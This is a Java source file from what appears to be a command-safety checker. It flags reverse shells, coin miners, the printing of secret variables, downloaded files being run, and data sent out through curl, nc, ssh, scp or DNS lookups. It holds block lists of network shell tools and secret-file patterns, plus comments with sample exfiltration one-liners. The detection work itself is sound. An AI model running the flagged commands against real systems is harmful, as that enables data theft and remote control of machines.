package dev.countersign.safety;

import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;

/// What leaves this machine, and what is let in.
final class NetworkDangers {
    private static final Set<String> SENDERS =
            Set.of(
                    "nc",
                    "ncat",
                    "netcat",
                    "socat",
                    "telnet",
                    "curl",
                    "wget",
                    "ssh",
                    "mail",
                    "mailx",
                    "sendmail",
                    "http",
                    "xh",
                    "rclone",
                    "ftp",
                    "sftp",
                    "lftp",
                    "openssl");
    private static final Set<String> CARRIERS =
            Set.of("nc", "ncat", "netcat", "socat", "telnet", "openssl");
    private static final Set<String> NAMES_ASKED =
            Set.of("dig", "host", "nslookup", "ping", "curl", "wget");
    private static final Set<String> READERS =
            Set.of(
                    "cat",
                    "base64",
                    "base32",
                    "env",
                    "printenv",
                    "xxd",
                    "od",
                    "head",
                    "tail",
                    "tar",
                    "gzip",
                    "openssl",
                    "hexdump",
                    "history",
                    "set",
                    "gpg",
                    "strings",
                    "whoami",
                    "hostname",
                    "id",
                    "ifconfig",
                    "ps",
                    "find",
                    "ls",
                    "security",
                    "pbpaste");
    private static final Pattern SENDS_INPUT =
            Pattern.compile(
                    "@-|-T-?|--upload-file|--data(-binary|-raw)?=?@-|-d@-|@/dev/stdin|--post-file=-|--post-file=/dev/stdin|-F.*=@-|[^=]*=[<@]-");
    private static final Pattern REMOTE =
            Pattern.compile("([\\w.-]+@)?[\\w.-]{2,}:.*|rsync://.*|.*::.*");
    private static final Pattern MINER =
            Pattern.compile(
                    "(?i)stratum\\+(tcp|ssl)|xmrig|minerd|cpuminer|cgminer|nicehash|cryptonight");
    private static final int SHORTEST_MINER = "xmrig".length();
    private static final Pattern CARRIED = Pattern.compile("[`)]\"?\\.[\\w-]+\\.\\w");
    private static final Pattern SHELL_BEHIND = Pattern.compile("(?i)(EXEC|SYSTEM):.*");

    // Everything here, of a person or of the machine; what holds a lot; what is not for others.
    private static final Pattern MUCH =
            Pattern.compile(
                    "(?i)(\\.\\.|~|/|\\*|\\$HOME|\\$PWD|\"\\$HOME\")/?\\*?|~/.*|/(etc|home|root|var|Users|usr|opt|srv)(/.*)?|\\$HOME/.*"
                        + "|.*\\.(sql|dump|db|sqlite3?|env|pem|key|bak|backup|kdbx|csv|pcap)"
                        + "|.*(secret|passw|credential|private|token|backup).*");
    private static final Pattern SECRET_VARIABLE =
            Pattern.compile(
                    "(?i).*(TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL).*");
    private static final Pattern SECRET_ASKED =
            Pattern.compile(
                    "(?i).*(token|secret|passw|api.?key|access.?key|credential|\\bkey\\b|_key|aws_?).*");

    private NetworkDangers() {}

    static void find(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        reverseShell(one, all, found);
        sent(one, all, found);
        copiedOut(one, found);
        asked(one, all, found);
        askedByName(one, found);
        secretVariable(one, all, found);
        byAwk(one, found);
        for (ScriptWord word : one.command().words()) {
            if (isMiner(word.shown()) && !one.is("grep", "rg", "echo", "pgrep")) {
                found.add(
                        Danger.of(
                                one,
                                "network.miner",
                                RiskLevel.HIGH,
                                "Uses this machine to mine coins for somebody."));
                return;
            }
        }
    }

    private static boolean isMiner(String word) {
        return word.length() >= SHORTEST_MINER && MINER.matcher(word).find();
    }

    private static void reverseShell(
            JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        boolean shell = ScriptJudge.SHELLS.contains(one.name());
        boolean overDevice =
                (shell || one.is("exec"))
                        && one.command().redirects().stream()
                                .anyMatch(redirect ->
                                        redirect.target()
                                                .map(word -> Places.isNetworkDevice(word.prefix()))
                                                .orElse(false));
        boolean overCarrier =
                shell
                        && one.readsScript()
                        && all.stream()
                                .anyMatch(other ->
                                        CARRIERS.contains(other.name()) && samePipe(one, other));
        boolean bySocat =
                one.is("socat")
                        && one.rest().stream()
                                .anyMatch(word -> SHELL_BEHIND.matcher(word.shown()).matches());
        if (overDevice || overCarrier || bySocat) {
            found.add(
                    Danger.of(
                            one,
                            "network.shell",
                            RiskLevel.CRITICAL,
                            "Gives whoever is at the other end a shell on this machine."));
        }
    }

    private static boolean samePipe(JudgedCommand one, JudgedCommand other) {
        return one.command().pipeline() >= 0
                && one.command().pipeline() == other.command().pipeline();
    }

    /// What a pipe or a redirect gives to a command that sends it away.
    private static void sent(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        boolean serves = one.is("openssl") && !one.has("s_client");
        if (!SENDERS.contains(one.name()) || serves) {
            return;
        }
        boolean fed =
                one.command().stage() > 0
                        || one.command().redirects().stream()
                                .anyMatch(SimpleCommand.Redirected::readsFile);
        boolean sendsInput =
                one.is(
                                "nc",
                                "ncat",
                                "netcat",
                                "socat",
                                "telnet",
                                "mail",
                                "mailx",
                                "sendmail",
                                "sftp",
                                "ftp",
                                "lftp",
                                "ssh",
                                "openssl")
                        || one.rest().stream()
                                .anyMatch(word -> SENDS_INPUT.matcher(word.shown()).matches());
        if (fed && sendsInput) {
            boolean onlyText =
                    all.stream()
                            .filter(other ->
                                    samePipe(one, other)
                                            && other.command().stage() < one.command().stage())
                            .allMatch(other -> other.is("echo", "printf", "yes", "sleep"));
            boolean redirected =
                    one.command().redirects().stream()
                            .anyMatch(SimpleCommand.Redirected::readsFile);
            if (!onlyText || redirected) {
                found.add(out(one));
            }
        }
    }

    private static void copiedOut(JudgedCommand one, List<Danger> found) {
        if (!one.is("scp", "rsync", "sftp")) {
            return;
        }
        List<ScriptWord> operands = one.operands();
        if (operands.size() > 1
                && REMOTE.matcher(operands.getLast().shown()).matches()
                && !operands.getLast().shown().matches("[A-Za-z]:[\\\\/].*")) {
            boolean much =
                    operands.subList(0, operands.size() - 1).stream()
                            .anyMatch(word -> MUCH.matcher(word.shown()).matches());
            found.add(
                    Danger.of(
                            one,
                            "data.copied-out",
                            much ? RiskLevel.HIGH : RiskLevel.MEDIUM,
                            much
                                    ? "Copies a whole folder, an archive or a database to another"
                                            + " machine."
                                    : "Copies files to another machine."));
        }
    }

    /// `curl "https://x/?$(cat file)"`, `dig $(cat file).x`
    private static void asked(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        if (!NAMES_ASKED.contains(one.name())) {
            return;
        }
        for (ScriptWord word : one.rest()) {
            boolean carries =
                    !word.isKnown()
                            && all.stream()
                                    .anyMatch(other ->
                                            READERS.contains(other.name())
                                                    && other.command().start() >= word.start()
                                                    && other.command().end() <= word.end()
                                                    && !other.equals(one));
            if (carries) {
                found.add(out(one));
                return;
            }
        }
    }

    /// `nslookup $(hostname).example.com`: what is asked for carries what a command printed.
    private static void askedByName(JudgedCommand one, List<Danger> found) {
        boolean carries =
                one.is("dig", "host", "nslookup", "drill", "ping")
                        && one.rest().stream()
                                .anyMatch(word ->
                                        !word.isKnown() && CARRIED.matcher(word.text()).find());
        if (carries) {
            found.add(out(one));
        }
    }

    /// A program of awk opens connections by names of files.
    private static void byAwk(JudgedCommand one, List<Danger> found) {
        boolean connects =
                one.arguments().map(Arguments::arguments).orElse(List.of()).stream()
                        .anyMatch(argument ->
                                argument.kind() == ArgumentKind.AWK
                                        && argument.word().shown().contains("/inet"));
        if (connects) {
            found.add(
                    Danger.of(
                            one,
                            "network.device",
                            RiskLevel.HIGH,
                            "The program in it opens a network connection."));
        }
    }

    /// `echo $API_TOKEN`, `env | grep -i token`, `curl https://x/?k=$API_KEY`.
    private static void secretVariable(
            JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        if (one.is("curl", "wget")) {
            if (one.rest().stream().anyMatch(word -> isSent(word) && namesSecret(word))) {
                found.add(out(one));
            }
        } else if (printsSecret(one, all) || searchesSecrets(one, all)) {
            found.add(
                    Danger.of(
                            one,
                            "secret.told",
                            RiskLevel.HIGH,
                            "Shows a password, key or token as plain text."));
        }
    }

    private static boolean namesSecret(ScriptWord word) {
        return word.variables().stream().anyMatch(name -> SECRET_VARIABLE.matcher(name).matches());
    }

    private static boolean printsSecret(JudgedCommand one, List<JudgedCommand> all) {
        return one.is("echo", "printf")
                && one.rest().stream().anyMatch(NetworkDangers::namesSecret)
                && one.command().redirects().stream()
                        .noneMatch(SimpleCommand.Redirected::writesFile)
                && !feedsAnother(one, all);
    }

    private static boolean searchesSecrets(JudgedCommand one, List<JudgedCommand> all) {
        return one.is("grep", "egrep", "rg", "awk", "sed")
                && one.rest().stream()
                        .anyMatch(word -> SECRET_ASKED.matcher(word.shown()).matches())
                && all.stream()
                        .anyMatch(other ->
                                samePipe(one, other)
                                        && other.command().stage() < one.command().stage()
                                        && isDump(other));
    }

    /// A program that takes it may be what it is for: `echo "$TOKEN" | docker login
    /// --password-stdin`.
    private static boolean feedsAnother(JudgedCommand one, List<JudgedCommand> all) {
        return all.stream()
                .anyMatch(other ->
                        samePipe(one, other) && other.command().stage() > one.command().stage());
    }

    /// A header is where a token belongs, an address or the body is not.
    private static boolean isSent(ScriptWord word) {
        String text = word.text();
        return text.contains("://") || text.contains("?") || text.contains("&");
    }

    private static boolean isDump(JudgedCommand other) {
        return (other.is("env", "printenv", "set") && other.rest().isEmpty())
                || (other.is("export", "declare", "typeset") && other.has("-p"));
    }

    private static Danger out(JudgedCommand one) {
        return Danger.of(
                one, "data.sent", RiskLevel.HIGH, "Sends what it reads to another machine.");
    }

    /// Looks at all commands in their order for what is run after it was downloaded.
    static void findRuns(List<JudgedCommand> all, List<Danger> found) {
        Set<String> files = new HashSet<>();
        for (JudgedCommand one : all) {
            run(one, files, found);
            if (one.is("curl", "wget", "aria2c")) {
                one.command()
                        .redirects()
                        .forEach(redirect ->
                                redirect.target().ifPresent(word -> files.add(bare(word))));
                written(one, files);
            }
            if (one.is("scp", "rsync", "sftp") && one.operands().size() > 1) {
                one.operands().stream()
                        .map(word -> word.shown())
                        .filter(text -> REMOTE.matcher(text).matches())
                        .forEach(text ->
                                files.add(Names.base(text.substring(text.lastIndexOf(':') + 1))));
            }
        }
    }

    private static void run(JudgedCommand one, Set<String> files, List<Danger> found) {
        if (files.isEmpty() || one.command().words().isEmpty()) {
            return;
        }
        boolean runs =
                files.contains(bare(one.command().words().getFirst()))
                        && one.command().words().getFirst().shown().contains("/");
        boolean interprets =
                (ScriptJudge.SHELLS.contains(one.name())
                                || one.is(
                                        "source",
                                        ".",
                                        "python",
                                        "python3",
                                        "node",
                                        "perl",
                                        "ruby",
                                        "installer",
                                        "dpkg"))
                        && one.rest().stream().anyMatch(word -> files.contains(bare(word)));
        if (runs || interprets) {
            found.add(
                    Danger.of(
                                    one,
                                    "execution.downloaded",
                                    RiskLevel.CRITICAL,
                                    "Runs what it has just downloaded, unseen.")
                            .instead("read the file before it runs"));
        }
    }

    private static void written(JudgedCommand other, Set<String> files) {
        for (Arguments.Argument argument :
                other.arguments().map(Arguments::arguments).orElse(List.of())) {
            if (argument.kind() == ArgumentKind.WRITE) {
                files.add(bare(argument.word()));
            }
            if (argument.kind() == ArgumentKind.HOST) {
                files.add(Names.base(argument.word().shown()));
            }
        }
    }

    private static String bare(ScriptWord word) {
        return Names.base(word.shown());
    }
}
